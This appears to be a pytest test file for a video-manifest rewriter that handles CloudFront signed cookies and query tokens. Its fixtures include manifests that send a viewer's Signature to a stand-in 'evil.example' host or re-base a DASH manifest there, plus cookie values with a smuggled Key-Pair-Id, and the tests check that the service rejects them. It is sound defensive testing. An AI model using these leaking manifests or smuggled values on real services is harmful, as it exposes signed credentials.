"""Where the rewriter takes the viewer's token from, and what it answers for a manifest it refuses.

``ManifestService`` with manifests in a dict (no AWS): the token comes from the query string, or only
from the three CloudFront cookies, each present once and well-formed as it is; a refused manifest is a
502 whose message says why.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from manifest_rewriter.service import ManifestNotFoundError, ManifestService

from tools.developer.samples import TITLE, token

PLAYLIST = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nvideo/index.m3u8\n"
MANIFESTS = {
    f"vod/{TITLE}/master.m3u8": PLAYLIST.encode(),
    f"vod/{TITLE}/steered.m3u8": b'#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI="https://s.example/s"\n',
    f"vod/{TITLE}/defined.m3u8": b'#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="Signature"\n'
    b"#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/v.m3u8?s={$Signature}\n",
    f"vod/{TITLE}/located.mpd": b'<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Location>https://evil.example/m.mpd'
    b'</Location><Period><AdaptationSet><SegmentTemplate media="s-$Number$.m4s"/></AdaptationSet></Period></MPD>',
}


def fetch(key: str) -> bytes:
    if key not in MANIFESTS:
        raise ManifestNotFoundError(key)
    return MANIFESTS[key]


def request(name: str = "master.m3u8", query: str = "", cookies: list[Any] | None = None) -> dict[str, Any]:
    event: dict[str, Any] = {
        "rawPath": f"/vod/{TITLE}/{name}",
        "rawQueryString": query,
        "headers": {},
        "requestContext": {"http": {"method": "GET"}},
    }
    if cookies is not None:
        event["cookies"] = cookies
    return ManifestService(fetch).handle(event)


def cookies(**changes: str) -> list[Any]:
    viewer = token()
    values = {
        "CloudFront-Policy": viewer.policy,
        "CloudFront-Signature": viewer.signature,
        "CloudFront-Key-Pair-Id": viewer.key_pair_id,
        **changes,
    }
    return [f"{name}={value}" for name, value in values.items() if value != "-"]


def error_of(response: dict[str, Any]) -> tuple[int, str]:
    return response["statusCode"], json.loads(response["body"])["error"]


def test_three_well_formed_cookies_serve_the_manifest_as_stored():
    response = request(cookies=cookies())
    assert (response["statusCode"], response["body"]) == (200, PLAYLIST)
    response = request(cookies=[" " + cookie for cookie in cookies()] + [None, 7, "other=1"])
    assert (response["statusCode"], response["body"]) == (200, PLAYLIST)  # OWS around a name; non-strings skipped


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        # A Key-Pair-Id inside another cookie's value is part of that value, which is then not base64.
        ({"CloudFront-Policy": token().policy + "&Key-Pair-Id=K2JCJMDEHXQW5F", "CloudFront-Key-Pair-Id": "-"}, 400),
        ({"CloudFront-Signature": token().signature + "&Key-Pair-Id=K2JCJMDEHXQW5F"}, 400),
        ({"CloudFront-Signature": token().signature + "; Key-Pair-Id=K2JCJMDEHXQW5F"}, 400),
        # Cookies are taken as they are: CloudFront compares the bytes it was sent, not a decoding of them.
        ({"CloudFront-Signature": token().signature.replace("~", "%7E", 1)}, 400),
        ({"CloudFront-Key-Pair-Id": "K2JCJMDEHXQW5F=x"}, 400),
    ],
    ids=["key-pair-id-in-policy", "key-pair-id-in-signature", "second-cookie-in-a-value", "percent-encoded", "equals"],
)
def test_a_value_with_anything_smuggled_into_it_is_malformed(changes: dict[str, str], expected: int):
    assert "~" in token().signature  # the percent-encoded case really changes a byte
    assert error_of(request(cookies=cookies(**changes))) == (expected, "malformed_token")


def test_each_cookie_exactly_once():
    assert error_of(request(cookies=[*cookies(), cookies()[0]])) == (400, "duplicate_token")
    assert error_of(request(cookies=cookies(**{"CloudFront-Key-Pair-Id": "-"}))) == (400, "missing_token")


def test_a_refused_manifest_is_a_502_that_says_why():
    for name, reason in (
        ("steered.m3u8", "EXT-X-CONTENT-STEERING"),
        ("defined.m3u8", "QUERYPARAM"),
        ("located.mpd", "Location re-bases the MPD"),
    ):
        response = request(name, query=token().query)
        assert error_of(response) == (502, "invalid_manifest")
        message = json.loads(response["body"])["message"]
        assert message.startswith("the stored manifest cannot be rewritten safely: ")
        assert reason in message


def test_a_cookie_viewer_gets_even_those_as_stored():
    """No URL of a cookie viewer carries the token, so there is nothing for the manifest to move."""
    response = request("defined.m3u8", cookies=cookies())
    assert (response["statusCode"], response["body"]) == (200, MANIFESTS[f"vod/{TITLE}/defined.m3u8"].decode())
